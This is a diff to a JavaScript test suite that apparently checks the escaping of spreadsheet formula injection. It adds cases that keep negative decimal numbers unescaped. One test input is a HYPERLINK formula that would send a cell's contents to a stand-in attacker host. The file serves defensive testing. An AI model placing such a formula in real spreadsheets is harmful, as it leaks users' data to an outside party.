@@ -6,6 +6,8 @@ describe('spreadsheetText', () => {
     ['=HYPERLINK("https://evil.example/?d="&A3,"Ver")', `'=HYPERLINK("https://evil.example/?d="&A3,"Ver")`],
     ['+57 310 111 2233', "'+57 310 111 2233"],
     ['-2+3', "'-2+3"],
+    ['-16,00', '-16,00'],
+    ['-1.234', '-1.234'],
     ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
     ['\t=1+1', "'\t=1+1"],
     ['\r=1+1', "'\r=1+1"],
